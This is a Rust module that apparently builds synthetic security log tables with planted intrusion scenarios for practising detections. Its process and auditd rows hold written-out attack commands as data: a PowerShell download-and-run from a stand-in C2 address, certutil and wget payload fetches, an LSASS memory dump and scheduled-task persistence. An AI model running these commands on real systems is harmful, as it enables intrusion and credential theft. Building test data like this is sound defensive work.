//! The sample tables: background activity plus the intrusion's rows, per table.

use arrow_array::RecordBatch;
use base64::Engine;
use chrono::Duration;

use super::rng::Rng;
use super::table::{Cell, Kind, TableBuilder};
use super::SampleOptions;

const MINUTE: i64 = 60_000_000;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;

pub const DOMAIN: &str = "CONTOSO";
pub const VICTIM_HOST: &str = "WORKSTATION-07.contoso.local";
pub const VICTIM_IP: &str = "10.0.1.57";
pub const C2_IP: &str = "203.0.113.66";
pub const SPRAY_IP: &str = "198.51.100.23";
pub const SPRAY_HOST: &str = "SRV-DB01.contoso.local";
pub const TRAVEL_USER: &str = "carol@contoso.com";
pub const TRAVEL_IP: &str = "45.142.120.9";
pub const LINUX_HOST: &str = "lnx-web01";
pub const SSH_ATTACKER_IP: &str = "192.0.2.77";
pub const C2_DOMAIN: &str = "cdn-update.example.net";
/// The SHA256 the sample's threat feed gives the dropped `svc.exe`.
pub const DROPPER_SHA256: &str = "5b0f1c9d3e8a7f2b64c1d0e9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9";

pub const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
];
pub const LINUX_HOSTS: &[&str] = &["lnx-web01", "lnx-web02", "lnx-db01"];

/// Seed, time span and the intrusion's times, shared by the tables.
pub struct Context {
    pub seed: u64,
    pub rows: usize,
    /// Microseconds since the epoch.
    pub start: i64,
    pub end: i64,
    pub phish: i64,
    pub spray: i64,
    pub travel: i64,
    pub ssh: i64,
    pub hosts: Vec<String>,
}

impl Context {
    pub fn new(o: &SampleOptions) -> Context {
        let end = o.anchor.timestamp_micros();
        let start = (o.anchor - Duration::days(7)).timestamp_micros();
        let day_start = |days_back: i64| end - days_back * DAY - end.rem_euclid(DAY);
        let mut hosts: Vec<String> = (1..=15)
            .map(|i| format!("WORKSTATION-{i:02}.contoso.local"))
            .collect();
        hosts.extend(
            ["SRV-DC01", "SRV-DB01", "SRV-WEB01", "SRV-FILE01"]
                .map(|h| format!("{h}.contoso.local")),
        );
        Context {
            seed: o.seed,
            rows: o.rows,
            start,
            end,
            phish: day_start(2) + 9 * HOUR + 14 * MINUTE,
            spray: day_start(3) + 2 * HOUR + 10 * MINUTE,
            travel: day_start(1) + 8 * HOUR,
            ssh: day_start(4) + 22 * HOUR,
            hosts,
        }
    }

    /// A generator for one table, independent of the others.
    pub fn rng(&self, table: u64) -> Rng {
        Rng::new(self.seed ^ table.wrapping_mul(0xA076_1D64_78BD_642F))
    }

    /// A time within the span, busier in working hours.
    pub fn time(&self, rng: &mut Rng) -> i64 {
        let t = rng.range(self.start, self.end - 1);
        let hour = (t.rem_euclid(DAY)) / HOUR;
        if !(7..19).contains(&hour) && rng.chance(0.6) {
            // Move most night-time activity into the day.
            return (t - t.rem_euclid(DAY) + rng.range(8 * HOUR, 18 * HOUR))
                .clamp(self.start, self.end - 1);
        }
        t
    }

    fn host_ip(&self, host: &str) -> String {
        let n = self.hosts.iter().position(|h| h == host).unwrap_or(0);
        if host == VICTIM_HOST {
            VICTIM_IP.to_string()
        } else {
            format!("10.0.{}.{}", 1 + n / 10, 40 + n)
        }
    }
}

type Build = fn(&Context) -> RecordBatch;

/// Table name (file stem) and builder, in writing order.
pub const TABLES: &[(&str, Build)] = &[
    ("alerts", alerts),
    ("processes", processes),
    ("logons", logons),
    ("signins", signins),
    ("network", network),
    ("office", office),
    ("syslog", syslog),
    ("auditd", auditd),
    ("ti_indicators", ti_indicators),
];

fn pid(rng: &mut Rng) -> String {
    format!("0x{:x}", rng.range(0x200, 0x3fff))
}

/// PowerShell's `-EncodedCommand` form: base64 of the UTF-16LE text.
fn encoded_command(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(utf16)
}

fn processes(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(1);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("Computer", Kind::Text),
        ("EventID", Kind::Int),
        ("Account", Kind::Text),
        ("SubjectUserName", Kind::Text),
        ("SubjectLogonId", Kind::Text),
        ("NewProcessId", Kind::Text),
        ("NewProcessName", Kind::Text),
        ("CommandLine", Kind::Text),
        ("ProcessId", Kind::Text),
        ("ParentProcessName", Kind::Text),
    ]);
    const BENIGN: &[(&str, &str, &str)] = &[
        (
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\System32\services.exe",
            r"C:\Windows\system32\svchost.exe -k netsvcs -p",
        ),
        (
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r"C:\Windows\explorer.exe",
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer"#,
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            r"C:\Windows\explorer.exe",
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
        ),
        (
            r"C:\Windows\System32\conhost.exe",
            r"C:\Windows\System32\cmd.exe",
            r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        ),
        (
            r"C:\Windows\System32\taskhostw.exe",
            r"C:\Windows\System32\svchost.exe",
            "taskhostw.exe",
        ),
        (
            r"C:\Windows\System32\notepad.exe",
            r"C:\Windows\explorer.exe",
            r"notepad.exe C:\Users\Public\notes.txt",
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\explorer.exe",
            r"cmd.exe /c ipconfig /all",
        ),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            r"C:\Windows\explorer.exe",
            "powershell.exe -NoProfile Get-Service",
        ),
        (
            r"C:\Program Files\Microsoft VS Code\Code.exe",
            r"C:\Windows\explorer.exe",
            r#""C:\Program Files\Microsoft VS Code\Code.exe""#,
        ),
        (
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding",
        ),
    ];
    for _ in 0..ctx.rows {
        let host = rng.pick(&ctx.hosts).clone();
        let user = *rng.pick(USERS);
        let (image, parent, cmd) = *rng.pick(BENIGN);
        t.push(vec![
            Cell::Time(ctx.time(&mut rng)),
            host.into(),
            4688.into(),
            format!(r"{DOMAIN}\{user}").into(),
            user.into(),
            format!("0x{:x}", rng.range(0x10000, 0xfffff)).into(),
            pid(&mut rng).into(),
            image.into(),
            cmd.into(),
            pid(&mut rng).into(),
            parent.into(),
        ]);
    }
    let download = format!("IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/a.ps1')");
    let chain: [(&str, &str, String, &str, &str); 10] = [
        ("0x1f04", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r#""WINWORD.EXE" /n "C:\Users\bob\Downloads\Invoice_4471.docm""#.into(), "0x1a10", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"),
        ("0x2a3c", r"C:\Windows\System32\cmd.exe", format!("cmd.exe /c powershell -nop -w hidden -enc {}", encoded_command(&download)), "0x1f04", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
        ("0x2b50", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", format!("powershell -nop -w hidden -enc {}", encoded_command(&download)), "0x2a3c", r"C:\Windows\System32\cmd.exe"),
        ("0x2c14", r"C:\Windows\System32\certutil.exe", format!(r"certutil.exe -urlcache -split -f http://{C2_IP}/svc.exe C:\Users\Public\svc.exe"), "0x2b50", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        ("0x2d88", r"C:\Users\Public\svc.exe", r"C:\Users\Public\svc.exe".into(), "0x2b50", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        ("0x2e01", r"C:\Windows\System32\whoami.exe", "whoami /all".into(), "0x2d88", r"C:\Users\Public\svc.exe"),
        ("0x2e40", r"C:\Windows\System32\net.exe", r#"net group "Domain Admins" /domain"#.into(), "0x2d88", r"C:\Users\Public\svc.exe"),
        ("0x2e7c", r"C:\Windows\System32\nltest.exe", "nltest /dclist:contoso".into(), "0x2d88", r"C:\Users\Public\svc.exe"),
        ("0x2f10", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full".into(), "0x2d88", r"C:\Users\Public\svc.exe"),
        ("0x2f66", r"C:\Windows\System32\schtasks.exe", r"schtasks /create /tn Updater /tr C:\Users\Public\svc.exe /sc onlogon".into(), "0x2d88", r"C:\Users\Public\svc.exe"),
    ];
    for (i, (new_pid, image, cmd, parent_pid, parent)) in chain.into_iter().enumerate() {
        t.push(vec![
            Cell::Time(ctx.phish + i as i64 * 40_000_000),
            VICTIM_HOST.into(),
            4688.into(),
            format!(r"{DOMAIN}\bob").into(),
            "bob".into(),
            "0x8f3a1".into(),
            new_pid.into(),
            image.into(),
            cmd.into(),
            parent_pid.into(),
            parent.into(),
        ]);
    }
    t.finish()
}

fn logons(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(2);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("Computer", Kind::Text),
        ("EventID", Kind::Int),
        ("Account", Kind::Text),
        ("TargetUserName", Kind::Text),
        ("TargetDomainName", Kind::Text),
        ("LogonType", Kind::Int),
        ("IpAddress", Kind::Text),
        ("WorkstationName", Kind::Text),
        ("Status", Kind::Text),
        ("TargetLogonId", Kind::Text),
    ]);
    let push = |t: &mut TableBuilder,
                time: i64,
                host: &str,
                ok: bool,
                user: &str,
                kind: i64,
                ip: &str,
                logon_id: String| {
        t.push(vec![
            Cell::Time(time),
            host.into(),
            (if ok { 4624 } else { 4625 }).into(),
            format!(r"{DOMAIN}\{user}").into(),
            user.into(),
            DOMAIN.into(),
            kind.into(),
            ip.into(),
            host.split('.').next().unwrap_or(host).into(),
            (if ok { "0x0" } else { "0xc000006d" }).into(),
            logon_id.into(),
        ]);
    };
    for _ in 0..ctx.rows {
        let host = rng.pick(&ctx.hosts).clone();
        let user = *rng.pick(USERS);
        let ok = !rng.chance(0.05);
        let kind = *rng.pick(&[2, 3, 3, 3, 7, 10, 11]);
        let ip = ctx.host_ip(&ctx.hosts[rng.below(ctx.hosts.len() as u64) as usize]);
        let id = format!("0x{:x}", rng.range(0x10000, 0xfffff));
        push(&mut t, ctx.time(&mut rng), &host, ok, user, kind, &ip, id);
    }
    const SPRAYED: &[&str] = &[
        "administrator",
        "admin",
        "sa",
        "backup",
        "svc_sql",
        "guest",
        "test",
        "svc_backup",
    ];
    for i in 0..240 {
        let user = SPRAYED[i % SPRAYED.len()];
        let time = ctx.spray + i as i64 * 5_000_000 + rng.range(0, 2_000_000);
        push(
            &mut t,
            time,
            SPRAY_HOST,
            false,
            user,
            3,
            SPRAY_IP,
            "0x0".into(),
        );
    }
    push(
        &mut t,
        ctx.spray + 21 * MINUTE,
        SPRAY_HOST,
        true,
        "svc_backup",
        10,
        SPRAY_IP,
        "0x7c1e2".into(),
    );
    push(
        &mut t,
        ctx.phish - 2 * HOUR,
        VICTIM_HOST,
        true,
        "bob",
        2,
        "127.0.0.1",
        "0x8f3a1".into(),
    );
    t.finish()
}

struct Place {
    city: &'static str,
    country: &'static str,
    lat: f64,
    lon: f64,
    ip: &'static str,
}

const OFFICES: &[Place] = &[
    Place {
        city: "London",
        country: "GB",
        lat: 51.5072,
        lon: -0.1276,
        ip: "81.2.69.142",
    },
    Place {
        city: "Manchester",
        country: "GB",
        lat: 53.4808,
        lon: -2.2426,
        ip: "81.2.69.160",
    },
    Place {
        city: "Seattle",
        country: "US",
        lat: 47.6062,
        lon: -122.3321,
        ip: "216.160.83.56",
    },
];
const SYDNEY: Place = Place {
    city: "Sydney",
    country: "AU",
    lat: -33.8688,
    lon: 151.2093,
    ip: TRAVEL_IP,
};

fn signins(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(3);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("UserPrincipalName", Kind::Text),
        ("IPAddress", Kind::Text),
        ("AppDisplayName", Kind::Text),
        ("ClientAppUsed", Kind::Text),
        ("ResultType", Kind::Text),
        ("ResultDescription", Kind::Text),
        ("Location", Kind::Text),
        ("City", Kind::Text),
        ("Latitude", Kind::Text),
        ("Longitude", Kind::Text),
    ]);
    let push = |t: &mut TableBuilder, time: i64, user: &str, place: &Place, app: &str, ok: bool| {
        t.push(vec![
            Cell::Time(time),
            user.into(),
            place.ip.into(),
            app.into(),
            "Browser".into(),
            (if ok { "0" } else { "50126" }).into(),
            (if ok {
                ""
            } else {
                "Invalid username or password"
            })
            .into(),
            place.country.into(),
            place.city.into(),
            format!("{:.4}", place.lat).into(),
            format!("{:.4}", place.lon).into(),
        ]);
    };
    const APPS: &[&str] = &[
        "Office 365 Exchange Online",
        "Microsoft Teams",
        "Azure Portal",
        "SharePoint Online",
    ];
    for _ in 0..ctx.rows {
        // Each user works from one office (London users now and then from Manchester,
        // too close to be a travel alert), so that the only impossible travel in the
        // data is the planted one.
        let n = rng.below(USERS.len() as u64) as usize;
        let user = format!("{}@contoso.com", USERS[n]);
        let home = n % 2 * 2;
        let place = &OFFICES[if home == 0 && rng.chance(0.1) {
            1
        } else {
            home
        }];
        let app = *rng.pick(APPS);
        let ok = !rng.chance(0.04);
        push(&mut t, ctx.time(&mut rng), &user, place, app, ok);
    }
    push(
        &mut t,
        ctx.travel,
        TRAVEL_USER,
        &OFFICES[0],
        "Office 365 Exchange Online",
        true,
    );
    push(
        &mut t,
        ctx.travel + 40 * MINUTE,
        TRAVEL_USER,
        &SYDNEY,
        "Office 365 Exchange Online",
        true,
    );
    push(
        &mut t,
        ctx.travel + 44 * MINUTE,
        TRAVEL_USER,
        &SYDNEY,
        "SharePoint Online",
        true,
    );
    t.finish()
}

fn network(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(4);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("DeviceName", Kind::Text),
        ("SourceIP", Kind::Text),
        ("SourcePort", Kind::Int),
        ("DestinationIP", Kind::Text),
        ("DestinationPort", Kind::Int),
        ("Protocol", Kind::Text),
        ("SentBytes", Kind::Int),
        ("ReceivedBytes", Kind::Int),
        ("DeviceAction", Kind::Text),
        ("DestinationHostName", Kind::Text),
    ]);
    const SITES: &[(&str, &str, i64)] = &[
        ("142.250.180.14", "www.google.com", 443),
        ("13.107.42.14", "outlook.office365.com", 443),
        ("140.82.121.4", "github.com", 443),
        ("151.101.1.69", "stackoverflow.com", 443),
        ("10.0.2.56", "srv-dc01.contoso.local", 445),
        ("10.0.2.56", "srv-dc01.contoso.local", 53),
        ("10.0.2.58", "srv-web01.contoso.local", 80),
    ];
    let push = |t: &mut TableBuilder,
                time: i64,
                host: &str,
                src: &str,
                sport: i64,
                dst: &str,
                dport: i64,
                sent: i64,
                recv: i64,
                name: &str| {
        t.push(vec![
            Cell::Time(time),
            host.into(),
            src.into(),
            sport.into(),
            dst.into(),
            dport.into(),
            (if dport == 53 { "UDP" } else { "TCP" }).into(),
            sent.into(),
            recv.into(),
            "Allow".into(),
            name.into(),
        ]);
    };
    for _ in 0..ctx.rows {
        let host = rng.pick(&ctx.hosts).clone();
        let (dst, name, port) = *rng.pick(SITES);
        let (sent, recv) = (rng.range(200, 20_000), rng.range(500, 2_000_000));
        let sport = rng.range(49152, 65535);
        push(
            &mut t,
            ctx.time(&mut rng),
            &host,
            &ctx.host_ip(&host),
            sport,
            dst,
            port,
            sent,
            recv,
            name,
        );
    }
    // A beacon: every 60 s with up to 5 s of jitter for six hours after the dropper ran.
    let mut time = ctx.phish + 3 * MINUTE;
    while time < ctx.phish + 6 * HOUR {
        let sport = rng.range(49152, 65535);
        let (sent, recv) = (rng.range(310, 330), rng.range(180, 200));
        push(
            &mut t,
            time,
            VICTIM_HOST,
            VICTIM_IP,
            sport,
            C2_IP,
            443,
            sent,
            recv,
            C2_DOMAIN,
        );
        time += MINUTE + rng.range(-5_000_000, 5_000_000);
    }
    t.finish()
}

fn office(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(5);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("UserId", Kind::Text),
        ("Operation", Kind::Text),
        ("Workload", Kind::Text),
        ("ClientIP", Kind::Text),
        ("OfficeObjectId", Kind::Text),
        ("ResultStatus", Kind::Text),
    ]);
    const OPS: &[(&str, &str)] = &[
        ("FileAccessed", "SharePoint"),
        ("FileModified", "OneDrive"),
        ("MailItemsAccessed", "Exchange"),
        ("Send", "Exchange"),
        ("FileDownloaded", "SharePoint"),
        ("MemberAdded", "MicrosoftTeams"),
    ];
    for _ in 0..ctx.rows {
        let user = *rng.pick(USERS);
        let (op, workload) = *rng.pick(OPS);
        let doc = format!(
            "https://contoso.sharepoint.com/sites/team/Shared Documents/{}-{}.docx",
            user,
            rng.below(500)
        );
        t.push(vec![
            Cell::Time(ctx.time(&mut rng)),
            format!("{user}@contoso.com").into(),
            op.into(),
            workload.into(),
            rng.pick(OFFICES).ip.into(),
            doc.into(),
            "Succeeded".into(),
        ]);
    }
    for i in 0..60 {
        t.push(vec![
            Cell::Time(ctx.travel + 50 * MINUTE + i * 7_000_000),
            TRAVEL_USER.into(),
            "FileDownloaded".into(),
            "SharePoint".into(),
            TRAVEL_IP.into(),
            format!(
                "https://contoso.sharepoint.com/sites/finance/Shared Documents/payroll-{i:03}.xlsx"
            )
            .into(),
            "Succeeded".into(),
        ]);
    }
    t.push(vec![
        Cell::Time(ctx.travel + 46 * MINUTE),
        TRAVEL_USER.into(),
        "New-InboxRule".into(),
        "Exchange".into(),
        TRAVEL_IP.into(),
        "ForwardTo: archive-carol@protonmail.example".into(),
        "Succeeded".into(),
    ]);
    t.finish()
}

fn syslog(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(6);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("Computer", Kind::Text),
        ("Facility", Kind::Text),
        ("SeverityLevel", Kind::Text),
        ("ProcessName", Kind::Text),
        ("ProcessID", Kind::Int),
        ("SyslogMessage", Kind::Text),
    ]);
    let push = |t: &mut TableBuilder,
                time: i64,
                host: &str,
                facility: &str,
                sev: &str,
                proc_name: &str,
                pid: i64,
                msg: String| {
        t.push(vec![
            Cell::Time(time),
            host.into(),
            facility.into(),
            sev.into(),
            proc_name.into(),
            pid.into(),
            msg.into(),
        ]);
    };
    for _ in 0..ctx.rows {
        let host = *rng.pick(LINUX_HOSTS);
        let user = *rng.pick(USERS);
        let time = ctx.time(&mut rng);
        let pid = rng.range(300, 40_000);
        match rng.below(5) {
            0 => push(&mut t, time, host, "authpriv", "info", "sshd", pid, format!("Accepted publickey for {user} from 10.0.1.{} port {} ssh2", rng.range(40, 70), rng.range(40000, 60000))),
            1 => push(&mut t, time, host, "cron", "info", "CRON", pid, format!("({user}) CMD (/usr/local/bin/backup.sh)")),
            2 => push(&mut t, time, host, "daemon", "info", "systemd", 1, "Started Daily apt upgrade and clean activities.".into()),
            3 => push(&mut t, time, host, "authpriv", "notice", "sudo", pid, format!("{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx")),
            _ => push(&mut t, time, host, "kern", "warning", "kernel", 0, format!("[UFW BLOCK] IN=eth0 SRC=203.0.113.{} DST=10.0.3.10 PROTO=TCP DPT=23", rng.range(1, 250))),
        }
    }
    for i in 0..150 {
        let user = *rng.pick(&["root", "admin", "ubuntu", "oracle", "postgres"]);
        push(
            &mut t,
            ctx.ssh + i * 2_000_000,
            LINUX_HOST,
            "authpriv",
            "info",
            "sshd",
            9000 + i,
            format!(
                "Failed password for {user} from {SSH_ATTACKER_IP} port {} ssh2",
                40000 + i
            ),
        );
    }
    push(
        &mut t,
        ctx.ssh + 6 * MINUTE,
        LINUX_HOST,
        "authpriv",
        "info",
        "sshd",
        9200,
        format!("Accepted password for ubuntu from {SSH_ATTACKER_IP} port 41999 ssh2"),
    );
    t.finish()
}

fn auditd(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(7);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("Computer", Kind::Text),
        ("RecordType", Kind::Text),
        ("RawData", Kind::Text),
    ]);
    let mut serial = 1000;
    let mut exec = |t: &mut TableBuilder,
                    time: i64,
                    host: &str,
                    uid: i64,
                    exe: &str,
                    args: &[&str]| {
        serial += 1;
        let stamp = format!("{}.{:03}:{serial}", time / 1_000_000, (time / 1000) % 1000);
        t.push(vec![
            Cell::Time(time),
            host.into(),
            "SYSCALL".into(),
            format!(r#"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 ppid=9200 pid={} auid={uid} uid={uid} gid={uid} euid={uid} comm="{}" exe="{exe}" key="exec""#,
                9300 + serial % 1000, exe.rsplit('/').next().unwrap_or(exe)).into(),
        ]);
        let argv: Vec<String> = args
            .iter()
            .enumerate()
            .map(|(i, a)| format!("a{i}=\"{a}\""))
            .collect();
        t.push(vec![
            Cell::Time(time),
            host.into(),
            "EXECVE".into(),
            format!(
                "type=EXECVE msg=audit({stamp}): argc={} {}",
                args.len(),
                argv.join(" ")
            )
            .into(),
        ]);
    };
    const CMDS: &[(&str, &[&str])] = &[
        ("/usr/bin/ls", &["ls", "-la", "/var/log"]),
        ("/usr/bin/systemctl", &["systemctl", "status", "nginx"]),
        (
            "/usr/bin/tar",
            &["tar", "czf", "/backup/www.tgz", "/var/www"],
        ),
        ("/usr/bin/python3", &["python3", "/opt/app/report.py"]),
        ("/usr/bin/cat", &["cat", "/etc/os-release"]),
    ];
    for _ in 0..ctx.rows / 2 {
        let (exe, args) = *rng.pick(CMDS);
        let host = *rng.pick(LINUX_HOSTS);
        let uid = *rng.pick(&[0, 1000, 1001]);
        exec(&mut t, ctx.time(&mut rng), host, uid, exe, args);
    }
    let url = format!("http://{C2_IP}/x.sh");
    let attack: [(&str, Vec<&str>); 4] = [
        (
            "/usr/bin/wget",
            vec!["wget", url.as_str(), "-O", "/tmp/.x.sh"],
        ),
        ("/usr/bin/chmod", vec!["chmod", "+x", "/tmp/.x.sh"]),
        ("/tmp/.x.sh", vec!["/tmp/.x.sh"]),
        ("/usr/bin/crontab", vec!["crontab", "-l"]),
    ];
    for (i, (exe, args)) in attack.iter().enumerate() {
        exec(
            &mut t,
            ctx.ssh + 8 * MINUTE + i as i64 * 20_000_000,
            LINUX_HOST,
            1000,
            exe,
            args,
        );
    }
    t.finish()
}

/// An alert's `Entities`: Sentinel's JSON list of entities with `$id` and `Type`.
fn entities(host: &str, account: &str, ip: &str) -> String {
    let (short, dns) = host.split_once('.').unwrap_or((host, ""));
    serde_json::json!([
        {"$id": "2", "HostName": short, "DnsDomain": dns, "OSFamily": "Windows", "Type": "host"},
        {"$id": "3", "Name": account, "NTDomain": DOMAIN, "Type": "account"},
        {"$id": "4", "Address": ip, "Type": "ip"},
    ])
    .to_string()
}

fn alerts(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(8);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("AlertName", Kind::Text),
        ("AlertSeverity", Kind::Text),
        ("Description", Kind::Text),
        ("ProviderName", Kind::Text),
        ("SystemAlertId", Kind::Text),
        ("CompromisedEntity", Kind::Text),
        ("Tactics", Kind::Text),
        ("Entities", Kind::Text),
        ("ExtendedProperties", Kind::Text),
    ]);
    let push = |t: &mut TableBuilder,
                rng: &mut Rng,
                time: i64,
                name: &str,
                sev: &str,
                tactic: &str,
                host: &str,
                account: &str,
                ip: &str| {
        let id = format!(
            "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
            rng.next_u64() as u32,
            rng.below(0x10000),
            rng.below(0x10000),
            rng.below(0x10000),
            rng.next_u64() & 0xffff_ffff_ffff
        );
        t.push(vec![
            Cell::Time(time),
            name.into(),
            sev.into(),
            format!("{name} on {host} involving {account}").into(),
            "ASI Scheduled Alerts".into(),
            id.into(),
            host.into(),
            tactic.into(),
            entities(host, account, ip).into(),
            serde_json::json!({"Compromised Host": host, "Alert generation status": "Full alert created"}).to_string().into(),
        ]);
    };
    const NOISE: &[(&str, &str, &str)] = &[
        ("Unusual volume of file deletions", "Low", "Impact"),
        ("Rare process run by user", "Low", "Execution"),
        ("Anomalous sign-in location", "Medium", "InitialAccess"),
        ("Multiple failed logons", "Low", "CredentialAccess"),
        ("New service installed", "Informational", "Persistence"),
    ];
    for _ in 0..(ctx.rows / 20).max(20) {
        let (name, sev, tactic) = *rng.pick(NOISE);
        let host = rng.pick(&ctx.hosts).clone();
        let user = *rng.pick(USERS);
        let ip = ctx.host_ip(&host);
        let time = ctx.time(&mut rng);
        push(&mut t, &mut rng, time, name, sev, tactic, &host, user, &ip);
    }
    let story: [(i64, &str, &str, &str, &str, &str, &str); 6] = [
        (
            ctx.phish + 2 * MINUTE,
            "Suspicious encoded PowerShell command line",
            "High",
            "Execution",
            VICTIM_HOST,
            "bob",
            C2_IP,
        ),
        (
            ctx.phish + 7 * MINUTE,
            "Credential dumping via comsvcs.dll MiniDump",
            "High",
            "CredentialAccess",
            VICTIM_HOST,
            "bob",
            VICTIM_IP,
        ),
        (
            ctx.phish + 30 * MINUTE,
            "Periodic beaconing to rare destination",
            "Medium",
            "CommandAndControl",
            VICTIM_HOST,
            "bob",
            C2_IP,
        ),
        (
            ctx.spray + 22 * MINUTE,
            "Password spray followed by successful logon",
            "High",
            "CredentialAccess",
            SPRAY_HOST,
            "svc_backup",
            SPRAY_IP,
        ),
        (
            ctx.travel + 45 * MINUTE,
            "Impossible travel activity",
            "Medium",
            "InitialAccess",
            "CAROL-LAPTOP.contoso.local",
            "carol",
            TRAVEL_IP,
        ),
        (
            ctx.ssh + 9 * MINUTE,
            "SSH brute force followed by download and execute",
            "High",
            "Execution",
            "lnx-web01.contoso.local",
            "ubuntu",
            SSH_ATTACKER_IP,
        ),
    ];
    for (time, name, sev, tactic, host, account, ip) in story {
        push(&mut t, &mut rng, time, name, sev, tactic, host, account, ip);
    }
    t.finish()
}

/// Microsoft Sentinel's `ThreatIntelligenceIndicator` table: the feed knows the
/// intrusion's C2 address, domain, URL and dropper, and the spray's source, among
/// indicators the rest of the data never meets.
fn ti_indicators(ctx: &Context) -> RecordBatch {
    let mut rng = ctx.rng(9);
    let mut t = TableBuilder::new(&[
        ("TimeGenerated", Kind::Time),
        ("IndicatorId", Kind::Text),
        ("SourceSystem", Kind::Text),
        ("Action", Kind::Text),
        ("ThreatType", Kind::Text),
        ("ThreatSeverity", Kind::Int),
        ("ConfidenceScore", Kind::Int),
        ("Active", Kind::Bool),
        ("Description", Kind::Text),
        ("NetworkIP", Kind::Text),
        ("DomainName", Kind::Text),
        ("Url", Kind::Text),
        ("FileHashType", Kind::Text),
        ("FileHashValue", Kind::Text),
    ]);
    let push = |t: &mut TableBuilder,
                rng: &mut Rng,
                kind: &str,
                value: &str,
                threat: &str,
                action: &str,
                confidence: i64,
                text: &str| {
        let id = format!("indicator--{:016x}", rng.next_u64());
        let field = |k: &str| {
            if k == kind {
                Cell::from(value)
            } else {
                Cell::Null
            }
        };
        let hash_type = if kind == "hash" {
            Cell::from("SHA256")
        } else {
            Cell::Null
        };
        t.push(vec![
            Cell::Time(ctx.start + rng.range(0, ctx.end - ctx.start - 1)),
            id.into(),
            "Threat feed".into(),
            action.into(),
            threat.into(),
            rng.range(1, 5).into(),
            confidence.into(),
            true.into(),
            text.into(),
            field("ip"),
            field("domain"),
            field("url"),
            hash_type,
            field("hash"),
        ]);
    };
    for i in 0..(ctx.rows / 20).max(10) {
        let ip = format!("203.0.113.{}", 100 + i % 150);
        let domain = format!("bad-{i}.example.org");
        let (kind, value) = if i % 2 == 0 {
            ("ip", ip.as_str())
        } else {
            ("domain", domain.as_str())
        };
        let confidence = rng.range(20, 100);
        push(
            &mut t,
            &mut rng,
            kind,
            value,
            "Botnet",
            "",
            confidence,
            "Seen in other organisations",
        );
    }
    let c2_url = format!("http://{C2_IP}/svc.exe");
    let story = [
        ("ip", C2_IP, "C2", "alert", 90, "Command and control server"),
        (
            "domain",
            C2_DOMAIN,
            "C2",
            "alert",
            85,
            "Command and control domain",
        ),
        (
            "url",
            c2_url.as_str(),
            "MaliciousUrl",
            "block",
            80,
            "Payload download",
        ),
        ("hash", DROPPER_SHA256, "Malware", "alert", 95, "Dropper"),
        (
            "ip",
            SPRAY_IP,
            "Bruteforce",
            "",
            60,
            "Password spraying source",
        ),
        ("ip", TRAVEL_IP, "Proxy", "", 70, "Anonymising VPN exit"),
    ];
    for (kind, value, threat, action, confidence, text) in story {
        push(
            &mut t, &mut rng, kind, value, threat, action, confidence, text,
        );
    }
    t.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    #[test]
    fn encoded_command_is_utf16le_base64() {
        assert_eq!(encoded_command("ab"), "YQBiAA==");
    }

    #[test]
    fn intrusion_rows_are_in_the_span_and_tables_sorted() {
        let ctx = Context::new(&SampleOptions {
            rows: 200,
            seed: 1,
            anchor: chrono::Utc.with_ymd_and_hms(2024, 6, 1, 12, 0, 0).unwrap(),
        });
        for when in [ctx.phish, ctx.spray, ctx.travel, ctx.ssh] {
            assert!(when > ctx.start && when + 6 * HOUR < ctx.end);
        }
        for (name, build) in TABLES {
            let batch = build(&ctx);
            let times = batch
                .column(0)
                .as_any()
                .downcast_ref::<arrow_array::TimestampMicrosecondArray>()
                .unwrap();
            assert!(
                times.values().windows(2).all(|w| w[0] <= w[1]),
